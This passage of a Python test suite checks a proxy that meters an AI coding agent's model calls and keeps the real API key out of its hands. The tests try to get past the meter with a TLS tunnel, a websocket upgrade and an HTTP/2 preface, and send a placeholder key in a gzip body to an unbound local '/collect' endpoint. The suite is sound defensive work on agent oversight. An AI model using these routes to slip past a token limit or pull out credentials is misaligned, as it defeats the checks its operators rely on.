        context.check_hostname = False  # the stand-in's own certificate: the proxy reads nothing
        tls = trio.SSLStream(stream, context, server_hostname="localhost")
        await tls.send_all(
            (
                f"POST /v1/messages HTTP/1.1\r\nHost: localhost\r\nx-api-key: {w.placeholder}\r\n"
                "Content-Length: 2\r\nConnection: close\r\n\r\n{}"
            ).encode()
        )
        with contextlib.suppress(trio.BrokenResourceError, ssl.SSLError, OSError):
            with trio.move_on_after(3):
                while await tls.receive_some(65536):
                    pass
        sent = [dict(r.headers.raw_items())[b"x-api-key"] for r in w.origin.requests]
        assert sent == [w.placeholder.encode()], sent
        assert not w.calls  # a tunnel: no call read


async def test_a_model_call_with_a_query_string_is_counted_and_one_past_the_limit_is_refused(
    tmp_path: Path,
) -> None:
    """``POST /v1/messages?beta=true`` (Claude Code's own) is a model call to
    the meter: counted, and the call after the limit refused."""

    async def answers(request: h11.Request, body: bytes) -> Reply:
        return 200, [(b"content-type", b"application/json")], message(600, 400)

    async with wire(tmp_path, answers, tokens=500) as w:
        first = await ask(
            w, "POST", "/v1/messages?beta=true", [("x-api-key", w.placeholder)], b"{}"
        )
        await recorded(w, 1)
        second = await ask(
            w, "POST", "/v1/messages?beta=true", [("x-api-key", w.placeholder)], b"{}"
        )
        assert (first[0], second[0]) == (200, 403)
        assert [c.usage.tokens for c in w.calls] == [{"input": 600, "output": 400}]
        assert w.calls[0].path == "/v1/messages"


async def test_an_upgrade_to_a_websocket_or_http2_never_reaches_the_bound_host(
    tmp_path: Path,
) -> None:
    """The websocket handshake's Upgrade and Connection are a hop's own: the
    bound host gets a plain GET it cannot switch; an HTTP/2 preface inside
    the terminated TLS is a 400, nothing sent."""
    async with wire(tmp_path, takes_anything, tokens=10_000) as w:
        upgrade = (
            f"GET /v1/realtime?model=x HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: {w.placeholder}\r\n"
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        got = await raw_through(w, upgrade.encode())
        assert not got.startswith(b"HTTP/1.1 101"), got
        sent = dict(w.origin.requests[0].headers.raw_items())
        assert b"upgrade" not in sent and b"connection" not in sent, sent
        h2 = await raw_through(w, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        assert h2.startswith(b"HTTP/1.1 400"), h2
        assert len(w.origin.requests) == 1


async def test_a_placeholder_in_a_compressed_body_to_an_unbound_host_is_only_the_placeholder(
    tmp_path: Path,
) -> None:
    """A request body is not searched (network.md): the placeholder inside a
    gzip body goes on as it is, worth nothing; the real key is never put in."""
    async with wire(tmp_path, takes_anything, takes_anything, plain=True) as w:
        other = w.origins[1]
        body = gzip.compress(json.dumps({"k": w.placeholder}).encode())
        at = f"127.0.0.1:{other.port}"
        raw = (
            f"POST http://{at}/collect HTTP/1.1\r\nHost: {at}\r\nContent-Encoding: gzip\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode() + body
        stream = await trio.open_tcp_stream("127.0.0.1", w.port)
        await stream.send_all(raw)
        with contextlib.suppress(trio.BrokenResourceError, OSError):
            with trio.move_on_after(3):
                while await stream.receive_some(65536):
                    pass
        await stream.aclose()
        assert other.bodies == [body]  # carried as it came: the placeholder, compressed
        assert KEY.encode() not in gzip.decompress(other.bodies[0])
